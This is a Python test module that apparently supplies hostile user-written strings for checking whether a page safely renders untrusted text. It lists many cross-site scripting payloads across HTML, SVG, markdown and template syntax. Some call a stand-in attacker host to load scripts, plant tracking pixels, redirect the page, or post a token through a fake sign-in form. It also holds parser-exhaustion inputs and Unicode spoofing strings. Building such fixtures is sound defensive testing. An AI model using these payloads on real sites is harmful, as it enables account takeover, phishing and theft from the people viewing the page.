"""Texts that strangers may write into cards, names of files, tasks, messages and queries, to take over a page that shows them."""

from __future__ import annotations

RUN = "window.pwned=1;alert(1)"
AWAY = "https://evil.example"

MARKUP = (
    f"<script>{RUN}</script>",
    f"<SCRIPT\t>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</title></head><script>{RUN}</script>",
    f"</textarea></pre></code><script>{RUN}</script>",
    f"--><!--><script>{RUN}</script>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f'"><script>{RUN}</script>',
    f"' onmouseover={RUN} autofocus onfocus={RUN} '",
    f'" style="position:fixed;inset:0" onpointerenter="{RUN}',
    f"<script src={AWAY}/x.js></script>",
    f"<img src=x onerror='{RUN}'>",
    f"<img src={AWAY}/pixel.gif>",
    f"<img srcset='{AWAY}/a.png 1x'>",
    f"<svg onload='{RUN}'><script>{RUN}</script></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}/>#x'/></svg>",
    f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></table></math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data='{AWAY}/x.swf'></object><embed src='{AWAY}/y'>",
    f"<link rel=stylesheet href={AWAY}/x.css><link rel=prefetch href={AWAY}/p>",
    f"<style>@import url({AWAY}/x.css);body{{display:none}}</style>",
    f"<div style='background:url({AWAY}/b.png);position:fixed;inset:0;z-index:9'>over all</div>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href='{AWAY}/'><a href=x>x</a>",
    f"<form action='{AWAY}'><input name=token><button>Sign in</button></form>",
    f"<video autoplay src='{AWAY}/v.mp4'></video><audio src='{AWAY}/a.mp3' autoplay></audio>",
    f"<details open ontoggle='{RUN}'>x</details>",
    f"<body onload='{RUN}'><marquee onstart='{RUN}'>x</marquee>",
    f"<a href='&#106;avascript:{RUN}' target=_top>click</a>",
    "<div id=main></div><input name=form_token value=x><a name=body>",
    f"<div hx-get='{AWAY}/x' hx-trigger=load></div><div data-hx-get='/sign-out' data-hx-trigger='load'></div>",
    f"<div hx-on:load='{RUN}' data-hx-on-htmx-load='{RUN}' hx-trigger='load[{RUN}]'></div>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<table><td><script>{RUN}</script><table background={AWAY}/t>",
    f"<button popovertarget=x>p</button><dialog open>Give me your token</dialog><script type=module>{RUN}</script>",
)
MARKDOWN = (
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt&colon;{RUN})",
    f"[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![](vbscript:{RUN})",
    f"<javascript:{RUN}> <{AWAY}>",
    f'![picture]({AWAY}/pixel.png "title" onerror={RUN})',
    f"![picture][r]\n\n[r]: {AWAY}/pixel.png '\"onload={RUN}'",
    f'```html" onmouseover={RUN}\n<script>{RUN}</script>\n```',
    f"# <img src=x onerror={RUN}>\n\n> <script>{RUN}</script>\n\n| <svg onload={RUN}> |\n| --- |\n| {AWAY} |",
    "[" * 2000 + "x" + "](y)" * 2000,
    ">" * 2000 + " deep",
    "* " * 1000 + "deep",
    "*a _b " * 3000,
    "`" * 4000 + " " + "`" * 3999,
    "| a " * 1500 + "|\n" + "|-" * 1500 + "|\n" + "| b " * 1500 + "|\n",
    "&" + "a" * 5000 + ";" + "&#x10ffff;&#0;&#xd800;" * 200,
)
TEMPLATES = (
    "{{ 7 * 7 }}{% raw %}{{ config }}{% endraw %}",
    "{% include 'frame.html' %}{{ ''.__class__.__mro__ }}",
    "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}",
    "%s %d {0.__class__} %(x)s \\x3cscript\\x3e",
)
TEXTS = (
    "\u202eevil\u202c \u2066gpj.exe\u2069 \u200f\u061cright",
    "שלום عربى 日本語 " * 20,
    "x" * 20_000,
    "W" * 300 + "\u200b" + "i" * 300,
    "Z\u0310\u0311\u0312\u0313\u0314\u0315\u031a\u031b\u033d" * 200,
    "\ufeff\u2028\u2029\u0085\u00ad\ufffe zero\u200dwidth\U000e0041",
    "a\tb\x0bc\x0cd\x1b[31mred\x07",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 300,
    "﷽" * 300,
)
ALL = (*MARKUP, *MARKDOWN, *TEMPLATES, *TEXTS)
